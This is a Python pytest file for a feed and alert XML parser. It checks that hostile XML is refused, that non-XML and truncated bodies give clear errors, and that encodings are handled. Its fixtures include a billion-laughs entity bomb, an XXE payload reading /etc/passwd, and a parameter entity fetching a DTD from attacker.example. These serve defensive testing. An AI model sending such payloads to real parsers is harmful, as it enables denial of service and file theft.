"""Untrusted XML: hostile documents refused whole, broken ones give a clear error or what came before the break."""

from __future__ import annotations

import pytest

from contextfeed.sources import DocumentError, HostileDocumentError, parse_document
from contextfeed.sources.documents import parse_xml

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol9 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
]>
<alert xmlns="urn:oasis:names:tc:emergency:cap:1.2"><identifier>&lol9;</identifier></alert>"""

EXTERNAL_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE alert [<!ENTITY secret SYSTEM "file:///etc/passwd">]>
<alert xmlns="urn:oasis:names:tc:emergency:cap:1.2"><identifier>&secret;</identifier></alert>"""

PARAMETER_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE rss [<!ENTITY % remote SYSTEM "http://attacker.example/evil.dtd"> %remote;]>
<rss version="2.0"><channel/></rss>"""


@pytest.mark.parametrize("kind", ["cap", "gdacs", "rss"])
def test_billion_laughs_is_refused_by_every_xml_kind(kind):
    parsed = parse_document(kind, BILLION_LAUGHS, source="test")
    assert parsed.events == ()
    assert parsed.errors == ("refused hostile XML: entity declaration 'lol' (DTD entities are not allowed)",)


@pytest.mark.parametrize("body", [EXTERNAL_ENTITY, PARAMETER_ENTITY])
def test_external_entities_are_refused_without_being_fetched(body):
    expected = r"external reference to '(file:///etc/passwd|http://attacker\.example/evil\.dtd)' \(XXE\)"
    with pytest.raises(HostileDocumentError, match=expected):
        parse_xml(body)


def test_hostile_documents_are_document_errors_for_callers_that_only_catch_those():
    assert issubclass(HostileDocumentError, DocumentError)


def test_a_plain_doctype_without_entities_is_accepted():
    body = b'<?xml version="1.0"?><!DOCTYPE rss PUBLIC "-//Netscape Communications//DTD RSS 0.91//EN" "http://my.netscape.com/publish/formats/rss-0.91.dtd"><rss/>'
    assert parse_xml(body).root.tag == "rss"


@pytest.mark.parametrize(
    ("body", "message"),
    [
        (b"", "empty body"),
        (b'{"type": "FeatureCollection"}', "not XML"),
        (b"Internal Server Error", "not XML"),
        (b"<alert", "not XML"),
    ],
)
def test_bodies_that_are_not_xml_say_so(body, message):
    with pytest.raises(DocumentError, match=message):
        parse_xml(body)


def test_whitespace_and_a_byte_order_mark_before_the_declaration_are_tolerated(document):
    body = b"\xef\xbb\xbf\n  " + document("cap/taiwan.xml").removeprefix(b"\xef\xbb\xbf")
    (event,) = parse_document("cap", body, source="test").events
    assert event.external_id == "WRA_ReservoirWarn_201405142010"


def test_latin1_bytes_without_a_declaration_are_read_as_windows_1252(document):
    body = document("cap/earthquake_iso8859_1.xml").replace(b' encoding="ISO-8859-1"', b"")
    (event,) = parse_document("cap", body, source="test").events
    assert "Usulután" in event.headline


def test_a_cut_document_keeps_what_closed_before_the_cut():
    parsed = parse_xml(b"<feed><entry><id>1</id></entry><entry><id>2</id></entry><entry><id>3</i")
    entries = list(parsed.root)
    assert parsed.broken is not None and "line 1" in parsed.broken
    assert [parsed.complete(entry) for entry in entries] == [True, True, False]
